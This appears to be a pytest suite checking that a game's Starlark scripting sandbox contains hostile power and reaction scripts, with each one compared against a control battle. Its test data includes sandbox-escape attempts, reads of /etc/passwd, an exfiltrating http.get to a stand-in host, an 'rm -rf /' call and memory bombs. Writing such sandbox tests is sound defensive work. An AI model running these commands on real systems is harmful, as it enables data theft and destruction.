"""Hostile Starlark scripts run THROUGH A BATTLE, as a power's script or as a reaction.

Every case is played twice with the same seed and the same commands: once with the hostile script,
once with a control battle whose power has no script at all. Then:

* a ``ScriptFailed`` event names the file and the function that failed;
* Health, Position, fatigue and conditions of every creature equal the control battle's, and so do the
  events once ``ScriptFailed`` is left out (the generator was rewound: dice a failed script rolled
  never happened; commands it issued before failing were never applied: all or nothing);
* this process is alive, and the next tick works -- a data-only power and a good script on the same
  host both resolve, identically in both battles.

The trusted path (scripts in this process) runs every case that cannot take a process down; the worker
path (``trusted_scripts=False``: a child process under RLIMIT_AS and a wall clock) runs them all, memory
bombs included. The worker is shared (one ``ScriptHosts`` for the module, handed to every battle), so it starts once
for the whole module and restarts only after a bomb kills it.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from components import Fatigue, Health, Position
from components.events import ScriptFailed
from game import Battle
from game.battle.reactions import new_hosts
from game.content.powers import parse_power
from game.scripting import Limits, WorkerHost

PID = os.getpid()

GOOD = "good.star"
GOOD_SRC = "def on_hit(ctx, target):\n    ctx.damage(target, 1)\n"


def use(*lines: str, top: str = "") -> str:
    """A script whose ``on_use(ctx)`` runs ``lines`` (after ``top``, its top-level code)."""
    return top + "def on_use(ctx):\n" + "".join(f"    {line}\n" for line in lines)


#: name -> (source, the function that must be reported, a regex its reason must match)
HOSTILE: dict[str, tuple[str, str, str]] = {
    # ---- the outside world: files, network, other modules
    "file_open": (use('return open("/etc/passwd").read()'), "on_use", "open"),
    "file_builtins": (use('read_file("/etc/passwd")', 'write_file("/tmp/x", "y")'), "on_use", "read_file"),
    "network_socket": (use('socket.create_connection(("example.com", 80))'), "on_use", "socket"),
    "network_http": (use('http.get("http://example.com/steal?" + str(ctx.user))'), "on_use", "http"),
    "load_statement": (use('system("rm -rf /")', top='load("@stdlib//os.star", "system")\n'),
                       "on_use", "load"),
    "import_statement": (use("os.system('id')", top="import os\n"), "on_use", "import"),
    # ---- reaching behind ctx
    "dunder_class": (use("return ctx.__class__.__mro__"), "on_use", "__class__"),
    "bound_method_self": (use("return ctx.damage.__self__.battle"), "on_use", "__self__"),
    "getattr_private": (use('return getattr(ctx, "_bridge")'), "on_use", "_bridge"),
    "reserved_identifier": (use('return getattr(ctx, "sbx__M")'), "on_use", "sbx__"),
    "globals_chain": (use("return ctx.health.__globals__['esper']"), "on_use", "__globals__"),
    "mutate_ctx": (use("ctx.user = 99"), "on_use", "not supported"),
    "mutate_frozen_global": (use("SEEN.append(ctx.user)", top="SEEN = []\n"), "on_use", "frozen|immutable"),
    # ---- runaway computation
    "deep_recursion": (use("f(0)", top="def f(n):\n    return f(n + 1)\n"), "on_use", "recursi|stack"),
    "mutual_recursion": (use("f(0)", top="def f(n):\n    return g(n)\ndef g(n):\n    return f(n)\n"),
                         "on_use", "recursi|stack"),
    "while_loop": (use("while True:", "    pass"), "on_use", "while"),
    "huge_range_loop": (use("for i in range(1000000000):", "    pass"), "on_use", "budget"),
    "nested_comprehension": (use("return [i * j for i in range(100000) for j in range(100000)]"),
                             "on_use", "budget"),
    "top_level_fails": (use("pass", top='fail("at load time")\n'), "on_use", "at load time"),
    "returns_a_function": (use("return lambda: 1"), "on_use", "plain|result|function"),
    # ---- commands the battle refuses (exceptions thrown from inside the callbacks)
    "unknown_entity": (use("ctx.damage(99999, 1)"), "on_use", "no creature with id 99999"),
    "negative_damage": (use("ctx.damage(ctx.target, -5)"), "on_use", "-5"),
    "float_healing": (use("ctx.heal(ctx.user, 2.5)"), "on_use", "whole number"),
    "string_entity": (use("ctx.damage(str(ctx.target), 1)"), "on_use", "no creature"),
    "godmode_condition": (use('ctx.add_condition(ctx.user, "godmode")'), "on_use", "godmode"),
    "derived_condition": (use('ctx.add_condition(ctx.target, "dead")'), "on_use", "dead"),
    "wrong_arity": (use("ctx.damage(ctx.target)"), "on_use", "argument|arity|positional"),
    "bad_roll_notation": (use('ctx.roll("1d6; import os")'), "on_use", "roll"),
    "move_off_the_grid": (use("ctx.move(ctx.target, 999, 999)"), "on_use", "999"),
    "endless_area": (use('ctx.create_area(5, 5, 10, "no vision", 1000000000)'), "on_use", "duration"),
    "too_many_commands": (use("for i in range(100):", "    ctx.damage(ctx.target, 1)"), "on_use", "commands"),
    "other_battles_entity": (use("ctx.damage(9, 1)"), "on_use", "no creature with id 9"),
    "huge_argument": (use('ctx.name("x" * 2000000)'), "on_use", "arguments too large"),
    # ---- all or nothing
    "good_command_then_fail": (use("ctx.damage(ctx.target, 5)", 'ctx.add_condition(ctx.target, "prone")',
                                   "ctx.heal(ctx.user, 3)", 'fail("changed my mind")'),
                               "on_use", "changed my mind"),
    "roll_then_fail": (use('n = ctx.roll("20d6")', "ctx.damage(ctx.target, n)", "return n // 0"),
                       "on_use", "[Dd]ivision|zero"),
    "fails_in_on_hit": ('def on_hit(ctx, target):\n    ctx.push(target, ctx.user, 10)\n    ctx.roll("3d6")\n'
                        '    fail("late")\n', "on_hit", "late"),
}

#: Memory bombs: once they aborted whatever process ran them; now the count stops each one before
#: it allocates, in the worker and in this process alike.
MEMORY_BOMBS: dict[str, tuple[str, str, str]] = {
    "huge_string": (use('s = "x" * (ctx.health(ctx.target) * 50000000)', "return len(s)"), "on_use", "budget"),
    "huge_list": (use("l = [0] * (ctx.health(ctx.target) * 50000000)", "return len(l)"), "on_use", "budget"),
    "doubling_list": (use("l = [ctx.user]", "for i in range(40):", "    l = l + l"), "on_use", "budget"),
    "string_join_bomb": (use('s = "xxxxxxxx"', "for i in range(40):", "    s = s + s"), "on_use", "budget"),
}
#: With a step budget no script reaches, only the worker's memory limit stops these.
BOMB = "died|memory|panic"
UNCOUNTED_BOMBS: dict[str, tuple[str, str, str]] = {
    "huge_string_unbounded": (use('s = "x" * (ctx.health(ctx.target) * 50000000)', "return len(s)"), "on_use", BOMB),
}
UNBOUNDED = Limits(max_steps=10**9, round_steps=10**10, battle_steps=10**11, wall_seconds=10.0)


@pytest.fixture(scope="module")
def script_dir(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("hostile")
    for name, (source, _, _) in {**HOSTILE, **MEMORY_BOMBS, **UNCOUNTED_BOMBS}.items():
        (directory / f"{name}.star").write_text(source, encoding="utf-8")
    (directory / GOOD).write_text(GOOD_SRC, encoding="utf-8")
    return directory


def power_table(script: str | None) -> dict:
    """hx: 1d20 damage to one enemy (rolled after on_use, so a generator left advanced would show);
    poke: data only; good: a well-behaved script."""
    hx = {"name": "Hex", "description": "hostile", "range_ft": 30, "targets": "enemy", "damage": "1d20"}
    if script is not None:
        hx["script"] = script
    return {
        "hx": parse_power("hx", hx, "test"),
        "poke": parse_power("poke", {"name": "Poke", "description": "d", "range_ft": 30, "damage": "1d6"},
                            "test"),
        "good": parse_power("good", {"name": "Good", "description": "d", "range_ft": 30, "damage": "1d4",
                                     "script": GOOD}, "test"),
    }


HOSTS = new_hosts()


@pytest.fixture(autouse=True, scope="module")
def _close_hosts():
    yield
    HOSTS.close()


def new_battle(script_dir: Path, trusted: bool, script: str | None, limits: Limits = Limits()
               ) -> tuple[Battle, list[int]]:
    b = Battle(seed=5, script_dir=script_dir, trusted_scripts=trusted, powers=power_table(script),
               script_limits=limits, script_hosts=HOSTS)
    ids = [b.spawn("user", 2, 2, team="a", health=30), b.spawn("target", 4, 2, team="b", health=40),
           b.spawn("bystander", 6, 6, team="b", health=20)]
    b.damage(ids[0], 10)  # room for a heal to show
    b.tick()
    return b, ids


def snapshot(b: Battle) -> list[tuple]:
    return [(e, b.get(e, Health).current, b.get(e, Position).x, b.get(e, Position).y, b.get(e, Position).z,
             b.get(e, Fatigue).level, sorted(b.conditions(e))) for e in b.creatures()]


def quiet(b: Battle) -> list:
    return [e for e in b.events if e.kind != "script_failed"]


def play(script_dir: Path, trusted: bool, name: str, function: str, reason: str,
         limits: Limits = Limits()) -> None:
    """The whole check for one hostile power script (see the module docstring)."""
    script = f"{name}.star"
    b, (u, t, _) = new_battle(script_dir, trusted, script, limits)
    control, _ = new_battle(script_dir, trusted, None, limits)
    try:
        assert snapshot(b) == snapshot(control)
        start = len(b.events)
        for battle in (b, control):
            battle.use_power(u, "hx", target=t)
            battle.tick()
        failed = [e for e in b.events[start:] if e.kind == "script_failed"]
        assert failed, f"{name}: no ScriptFailed event"
        ours = [e for e in failed if e.function == function]
        assert ours, f"{name}: no ScriptFailed for {function}: {failed}"
        for event in ours:
            assert Path(event.script).name == script and script in event.reason
            assert re.search(reason, event.reason), f"{name}: {event.reason!r} !~ {reason!r}"
        assert snapshot(b) == snapshot(control)
        assert quiet(b) == control.events
        assert os.getpid() == PID
        # the next tick works: data only, then a good script on the same host
        for battle in (b, control):
            battle.use_power(u, "poke", target=t)
            battle.tick()
            battle.use_power(u, "good", target=t)
            battle.tick()
        assert snapshot(b) == snapshot(control)
        assert quiet(b) == control.events
        assert [d.source for d in b.events[-8:] if d.kind == "damaged"][-1] == "script:good"
        assert len([e for e in b.events if e.kind == "script_failed"]) == len(failed)  # nothing new failed
    finally:
        b.close()
        control.close()


# ================================================================ power scripts


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_power_script_in_process(script_dir, name):
    play(script_dir, True, name, *HOSTILE[name][1:])


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_power_script_in_the_worker(script_dir, name):
    play(script_dir, False, name, *HOSTILE[name][1:])


@pytest.mark.parametrize("trusted", [True, False], ids=["in-process", "worker"])
@pytest.mark.parametrize("name", sorted(MEMORY_BOMBS))
def test_memory_bomb_is_stopped_by_the_count(script_dir, name, trusted):
    play(script_dir, trusted, name, *MEMORY_BOMBS[name][1:])


@pytest.mark.parametrize("name", sorted(UNCOUNTED_BOMBS))
def test_memory_bomb_past_the_count_kills_only_the_worker(script_dir, name):
    host = HOSTS.host(False, UNBOUNDED)
    assert isinstance(host, WorkerHost)
    play(script_dir, False, name, *UNCOUNTED_BOMBS[name][1:], limits=UNBOUNDED)
    assert host.pid is not None and host.pid != PID  # a worker (a fresh one) is serving again


def test_the_other_battles_entity_exists_only_there(script_dir):
    """The id the hostile script uses (9) is a creature of another, bigger battle, not of this one."""
    with Battle(seed=5) as other:
        ids = [other.spawn(f"c{i}", i, 0) for i in range(10)]
        assert 9 in ids and other.is_alive(9)
        b, created = new_battle(script_dir, True, "other_battles_entity.star")
        try:
            assert 9 not in created
            with pytest.raises(KeyError, match="no creature with id 9 in this battle"):
                b.get(9, Health)
        finally:
            b.close()
        assert other.is_alive(9) and other.get(9, Health).current == 10


HOG = use("a = [1]", "b = [1]", "for i in range(40):", "    a = [a, a]", "    b = [b, b]", "return a == b")


@pytest.mark.parametrize("trusted", [True, False])
def test_comparing_shared_structures_is_counted(tmp_path, trusted):
    """Comparing two values of 2**40 shared leaves visits every leaf: the comparison pays for them
    before it runs, so the step budget stops it in a moment, the same way in both hosts."""
    (tmp_path / GOOD).write_text(GOOD_SRC)
    (tmp_path / "hog.star").write_text(HOG)
    play(tmp_path, trusted, "hog", "on_use", "budget of 200000 exhausted")


def test_a_time_hog_past_every_count_is_stopped_by_the_wall_clock(tmp_path):
    """With budgets no script reaches, the same comparison runs for hours: the worker's wall clock stops it."""
    (tmp_path / GOOD).write_text(GOOD_SRC)
    (tmp_path / "hog.star").write_text(HOG)
    unbounded = Limits(wall_seconds=0.3, max_steps=10**12, round_steps=10**13, battle_steps=10**14)
    play(tmp_path, False, "hog", "on_use", "timeout|took longer|wall|killed", unbounded)


def test_scripts_are_parsed_once_per_host(script_dir):
    for trusted in (True, False):
        for _ in range(3):
            b, (u, t, _) = new_battle(script_dir, trusted, None)
            b.use_power(u, "good", target=t)
            b.tick()
            b.use_power(u, "good", target=t)
            b.tick()
            b.close()
        host = HOSTS.host(trusted, Limits())
        counts = host.stats()["load_counts"] if isinstance(host, WorkerHost) else host.load_counts
        mine = [name for name in counts if name.startswith(f"{GOOD}#")]
        assert len(mine) == 1 and counts[mine[0]] == 1, counts


def test_the_event_log_does_not_depend_on_where_the_scripts_are_stored(tmp_path):
    """A failing script's event names the file, never the folder: two copies agree to the letter."""
    logs = []
    for folder in ("here", "somewhere/else/entirely"):
        where = tmp_path / folder
        where.mkdir(parents=True)
        (where / "broken.star").write_text(use("x = 1 // 0"))
        b, (u, t, _) = new_battle(where, True, "broken.star")
        b.use_power(u, "hx", target=t)
        b.tick()
        failed = [e for e in b.events if isinstance(e, ScriptFailed)]
        assert failed and all(str(tmp_path) not in repr(e) for e in failed)
        logs.append([e.as_dict() for e in b.events])
        b.close()
    assert logs[0] == logs[1]


# ================================================================ reaction scripts


def reacting(script_dir: Path, trusted: bool, script: str | None) -> tuple[Battle, list[int]]:
    b, ids = new_battle(script_dir, trusted, None)
    if script is not None:
        b.attach_reaction(script)
    b.damage(ids[1], 3)
    b.tick()
    b.damage(ids[2], 20)  # downed
    b.tick()
    b.tick()
    b.use_power(ids[0], "poke", target=ids[1])  # rolls: a generator a failed reaction advanced would show
    b.tick()
    return b, ids


REACTIONS = {
    "heals_then_fails": ('def on_damaged(ctx, event):\n    ctx.heal(event["entity"], 3)\n    fail("no")\n',
                         "on_damaged"),
    "budget_each_round": ("def on_round_end(ctx, event):\n    for i in range(10000000):\n        pass\n",
                          "on_round_end"),
    "rolls_then_refused": ('def on_downed(ctx, event):\n    ctx.roll("50d6")\n'
                           '    ctx.add_condition(event["entity"], "undead")\n', "on_downed"),
}


@pytest.mark.parametrize("trusted", [True, False], ids=["in-process", "worker"])
@pytest.mark.parametrize("name", sorted(REACTIONS))
def test_hostile_reaction_changes_nothing(tmp_path, name, trusted):
    source, function = REACTIONS[name]
    (tmp_path / f"{name}.star").write_text(source)
    (tmp_path / GOOD).write_text(GOOD_SRC)
    b, _ = reacting(tmp_path, trusted, f"{name}.star")
    control, _ = reacting(tmp_path, trusted, None)
    try:
        failed = [e for e in b.events if e.kind == "script_failed"]
        assert failed
        assert all(e.function == function and Path(e.script).name == f"{name}.star" for e in failed)
        assert snapshot(b) == snapshot(control)
        assert quiet(b) == control.events
        b.tick()
        control.tick()
        assert quiet(b) == control.events
    finally:
        b.close()
        control.close()


def test_a_good_reaction_after_hostile_ones_still_works(tmp_path):
    (tmp_path / "bad.star").write_text('def on_damaged(ctx, event):\n    fail("bad")\n')
    (tmp_path / "ok.star").write_text('def on_damaged(ctx, event):\n    if event["amount"] == 3:\n'
                                      '        ctx.heal(event["entity"], 1)\n')
    with Battle(seed=1, script_dir=tmp_path) as b:
        e = b.spawn("e", 2, 2, health=20)
        b.attach_reaction("bad.star")
        b.attach_reaction("ok.star", e)
        b.damage(e, 3)
        b.tick()
        b.tick()
        assert [x.function for x in b.events if x.kind == "script_failed"] == ["on_damaged"]
        assert b.get(e, Health).current == 18


@pytest.mark.parametrize(("duration", "made"), [(1000, True), (1001, False)])
def test_a_scripts_light_may_last_as_long_as_a_power_files(tmp_path, duration, made):
    """A power file's duration runs to 1,000 rounds: a script's light is held to the same bound
    (it stopped at 100), and past it the script fails naming the bound."""
    (tmp_path / GOOD).write_text(GOOD_SRC)
    (tmp_path / "lamp.star").write_text(use(f'ctx.create_light(5, 5, 10, "normal", {duration})'))
    b, (u, t, _) = new_battle(tmp_path, True, "lamp.star")
    b.use_power(u, "hx", target=t)
    b.tick()
    [effect] = b.effects() or [None]
    failed = [e for e in b.events if e.kind == "script_failed"]
    if made:
        assert effect is not None and effect["ends_after_round"] == b.round + duration and not failed
    else:
        assert effect is None and "1..1000 rounds" in failed[0].reason
